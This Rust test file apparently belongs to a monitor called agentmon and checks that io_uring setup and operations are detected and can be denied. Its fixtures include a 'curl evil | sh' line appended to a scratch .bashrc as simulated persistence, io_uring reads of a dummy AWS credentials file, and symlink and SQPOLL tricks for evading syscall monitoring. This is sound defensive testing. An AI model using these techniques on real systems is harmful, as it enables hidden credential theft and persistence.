//! `io_uring`: its setup by an agent is an event, and the operations it submits are seen — a file
//! opened through `IORING_OP_OPENAT` is named by the path the kernel copied for it (joined to the
//! kernel's path of its directory fd), whether the process submitted it with `io_uring_enter` or a
//! SQPOLL kernel thread picked it up without any syscall. The rings are built by hand (Python
//! ctypes), as a payload without liburing would.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code outside #[test] fns: a failed step fails the test"
)]
use agentmon_e2e::{io_uring::RING, *};
use serde_json::Value;

fn scratch() -> tempfile::TempDir {
    let dir = scratch_dir("agentmon-vis-iouring-");
    std::fs::create_dir_all(dir.path().join("home/.aws")).unwrap();
    std::fs::write(dir.path().join("home/.aws/credentials"), "[default]\nkey=x\n").unwrap();
    std::os::unix::fs::symlink(dir.path().join("home/.aws"), dir.path().join("cfg")).unwrap();
    dir
}

fn run_py(py: &str) -> ExecRun {
    let run = exec_json(&[], &["/usr/bin/python3", "-c", &format!("{RING}\n{py}")]);
    assert!(run.status.success(), "{}", run.stderr);
    run
}

fn ops<'a>(run: &'a ExecRun, op: &str) -> Vec<&'a Value> {
    run.of_kind_with("io_uring_op", "op", op)
}

#[test]
fn setup_and_an_openat_of_a_credential_file_are_seen_with_its_path() {
    let dir = scratch();
    let creds = dir.path().join("home/.aws/credentials");
    // Plain: an absolute path. Dodging: a relative name from a directory fd opened through a
    // symlink.
    let py = format!(
        "r = Ring()\n\
         fd = r.submit(IORING_OP_OPENAT, fd=-100, addr=r.path('{abs}'), op_flags=os.O_RDONLY, user_data=7)\n\
         assert fd >= 0 and os.read(fd, 9) == b'[default]', fd\n\
         d = os.open('{link}', os.O_RDONLY | os.O_DIRECTORY)\n\
         fd2 = r.submit(IORING_OP_OPENAT, fd=d, addr=r.path('credentials'), op_flags=os.O_RDONLY, user_data=8)\n\
         assert fd2 >= 0, fd2\n",
        abs = creds.display(),
        link = dir.path().join("cfg").display(),
    );
    let run = run_py(&py);
    let setup = run.of_kind("io_uring_setup");
    assert_eq!(setup.len(), 1, "{setup:?}");
    assert_eq!(setup[0]["entries"], 8);
    assert!(setup[0]["result"].as_i64().unwrap() >= 0);
    assert_eq!(setup[0]["sq_entries"], 8, "what the kernel set up");
    let opens = ops(&run, "openat");
    assert_eq!(opens.len(), 2, "{:?}", run.of_kind("io_uring_op"));
    let plain = opens.iter().find(|e| e["user_data"] == 7).unwrap();
    assert_eq!(plain["path"], creds.display().to_string().as_str());
    assert_eq!(plain["full_path"], canonical(&creds).as_str());
    assert_eq!(plain["opcode"], 18);
    let rel = opens.iter().find(|e| e["user_data"] == 8).unwrap();
    assert_eq!(rel["path"], "credentials", "the kernel's copy of the name");
    assert_eq!(
        rel["dir_path"],
        canonical(dir.path().join("home/.aws")).as_str(),
        "the directory fd's kernel path, not the symlink"
    );
    assert_eq!(
        rel["full_path"],
        canonical(&creds).as_str(),
        "what rules see as file.path"
    );
}

#[test]
fn a_shell_start_up_file_written_through_io_uring_is_persistence() {
    // The persistence rules' "content placed" includes a file opened for writing by io_uring, by
    // absolute path and by a name relative to a directory fd opened through a symlink.
    let dir = scratch();
    let home = dir.path().join("home");
    std::os::unix::fs::symlink(&home, dir.path().join("h")).unwrap();
    let py = format!(
        "{RING}\n\
         r = Ring()\n\
         fd = r.submit(IORING_OP_OPENAT, fd=-100, addr=r.path('{rc}'), op_flags=os.O_WRONLY | os.O_CREAT | os.O_APPEND, user_data=1)\n\
         assert fd >= 0, fd\n\
         os.write(fd, b'curl evil | sh\\n')\n\
         d = os.open('{link}', os.O_RDONLY | os.O_DIRECTORY)\n\
         fd2 = r.submit(IORING_OP_OPENAT, fd=d, addr=r.path('.profile'), op_flags=os.O_WRONLY | os.O_CREAT, user_data=2)\n\
         assert fd2 >= 0, fd2\n",
        rc = home.join(".bashrc").display(),
        link = dir.path().join("h").display(),
    );
    let run = exec_rules(&shipped_rules(), &[], &["/usr/bin/python3", "-c", &py]);
    assert!(run.status.success(), "{}", run.stderr);
    let outputs: Vec<String> = run
        .alerts_of("Shell configuration file modified")
        .iter()
        .map(|a| a["output"].as_str().unwrap().to_string())
        .collect();
    for name in [".bashrc", ".profile"] {
        let path = format!("{}/{name}", canonical(&home));
        assert!(
            outputs
                .iter()
                .any(|o| o.contains(&format!("{path} changed (io_uring_op)"))),
            "{name}: {outputs:?}; fired: {:?}",
            run.fired()
        );
    }
}

#[test]
fn an_sqpoll_ring_submits_without_a_syscall_and_is_still_seen() {
    let dir = scratch();
    let creds = dir.path().join("home/.aws/credentials");
    let py = format!(
        "r = Ring(IORING_SETUP_SQPOLL)\n\
         fd = r.submit(IORING_OP_OPENAT, fd=-100, addr=r.path('{}'), op_flags=os.O_RDONLY, user_data=9)\n\
         assert fd >= 0, fd\n",
        creds.display()
    );
    let run = run_py(&py);
    let setup = run.of_kind("io_uring_setup");
    assert_eq!(setup[0]["flags"], 2, "IORING_SETUP_SQPOLL: {setup:?}");
    let open = ops(&run, "openat");
    assert_eq!(open.len(), 1, "{:?}", run.of_kind("io_uring_op"));
    assert_eq!(open[0]["full_path"], canonical(&creds).as_str());
    assert_eq!(
        open[0]["sq_thread"], true,
        "submitted by the kernel thread: {}",
        open[0]
    );
    assert!(open[0]["comm"].as_str().unwrap().starts_with("iou-sqp"), "{}", open[0]);
}

#[test]
fn other_operations_are_seen_by_opcode_and_rename_by_both_paths() {
    let dir = scratch();
    let old = dir.path().join("home/old");
    std::fs::write(&old, "x").unwrap();
    let new = dir.path().join("home/.bashrc");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let py = format!(
        "import socket\n\
         r = Ring()\n\
         assert r.submit(IORING_OP_NOP) == 0\n\
         s = socket.socket()\n\
         sa = ctypes.create_string_buffer(struct.pack('!HH4s8x', socket.AF_INET, {port}, bytes([127, 0, 0, 1])), 16)\n\
         struct.pack_into('H', sa, 0, socket.AF_INET)\n\
         assert r.submit(IORING_OP_CONNECT, fd=s.fileno(), addr=ctypes.addressof(sa), off=16) == 0\n\
         assert r.submit(IORING_OP_RENAMEAT, fd=-100, addr=r.path('{old}'), length=-100 & 0xffffffff, \
                         off=r.path('{new}')) == 0\n",
        old = old.display(),
        new = new.display(),
    );
    let run = run_py(&py);
    assert_eq!(ops(&run, "nop").len(), 1, "{:?}", run.of_kind("io_uring_op"));
    let connect = ops(&run, "connect");
    assert_eq!(connect.len(), 1);
    assert!(
        connect[0]["fd"].as_i64().unwrap() >= 0,
        "the socket's fd: {}",
        connect[0]
    );
    let rename = ops(&run, "renameat");
    assert_eq!(rename.len(), 1);
    assert_eq!(rename[0]["path"], old.display().to_string().as_str());
    assert_eq!(rename[0]["path2"], new.display().to_string().as_str());
    assert!(new.exists());
}

#[test]
fn an_io_uring_setup_refused_by_a_seccomp_filter_is_seen_with_its_errno() {
    // Docker's default seccomp profile refuses io_uring_setup with EPERM: the filter skips the
    // syscall before `sys_enter_*`, but its exit still runs, and the setup program sees the attempt.
    let py = format!(
        "{}\n\
         params = ctypes.create_string_buffer(120)\n\
         struct.pack_into('I', params, 8, IORING_SETUP_SQPOLL)\n\
         assert libc.syscall(SETUP, 16, params) == -1\n\
         assert ctypes.get_errno() == 1, ctypes.get_errno()\n",
        seccomp_refusing_py(&[425]) // io_uring_setup
    );
    let run = run_py(&py);
    let setup = run.of_kind("io_uring_setup");
    assert_eq!(setup.len(), 1, "{setup:?}");
    assert_eq!(setup[0]["result"], -1, "EPERM from the filter: {}", setup[0]);
    assert_eq!(setup[0]["entries"], 16);
    assert_eq!(setup[0]["flags"], 2, "IORING_SETUP_SQPOLL");
}

#[test]
fn a_deny_rule_refuses_io_uring_before_the_ring_reaches_the_process() {
    let rules = rules_dir(
        "- rule: No io_uring\n  desc: test\n  condition: evt.kind = io_uring_setup\n  output: io_uring refused\n  priority: CRITICAL\n  action: deny\n",
    );
    let py = format!("{RING}\nr = Ring()\nprint('agentmon-ring-fd', r.fd, flush=True)\n");
    let script = "/usr/bin/python3 -c \"$0\" >&2; echo status=$? >&2";
    let run = exec_rules(rules.path(), &[], &["/bin/sh", "-c", script, &py]);
    assert!(run.stderr.contains("status=137"), "killed: {}", run.stderr);
    assert!(
        !run.stderr.contains("agentmon-ring-fd"),
        "the ring never reached the process: {}",
        run.stderr
    );
    let a = run.alerts_of("No io_uring");
    assert_eq!(a.len(), 1, "{:?}", run.fired());
    assert_eq!(
        a[0]["action_result"],
        "denied in kernel: process killed (SIGKILL) before the syscall returned"
    );
    let deny = run.of_kind("deny");
    assert!(deny.iter().any(|d| d["what"] == "io_uring"), "{deny:?}");
}

#[test]
fn an_io_uring_connect_is_refused_by_a_connect_deny_rule() {
    // The cgroup connect hooks run for a connect submitted through io_uring too.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let rules = rules_dir(&format!(
        "- rule: No port\n  desc: test\n  condition: evt.kind = connect and net.addr in_cidr (127.0.0.0/8) and net.port = {port}\n  output: refused\n  priority: CRITICAL\n  action: deny\n"
    ));
    let py = format!(
        "{RING}\nimport socket\n\
         r = Ring()\n\
         s = socket.socket()\n\
         sa = ctypes.create_string_buffer(struct.pack('!HH4s8x', socket.AF_INET, {port}, bytes([127, 0, 0, 1])), 16)\n\
         struct.pack_into('H', sa, 0, socket.AF_INET)\n\
         res = r.submit(IORING_OP_CONNECT, fd=s.fileno(), addr=ctypes.addressof(sa), off=16)\n\
         assert res == -1, res\n"
    );
    let run = exec_rules(rules.path(), &[], &["/usr/bin/python3", "-c", &py]);
    assert!(
        run.status.success(),
        "EPERM (-1) came back in the completion: {}",
        run.stderr
    );
    assert_eq!(ops(&run, "connect").len(), 1);
    let deny = run.of_kind("deny");
    assert!(deny.iter().any(|d| d["what"] == "connect"), "{deny:?}");
}
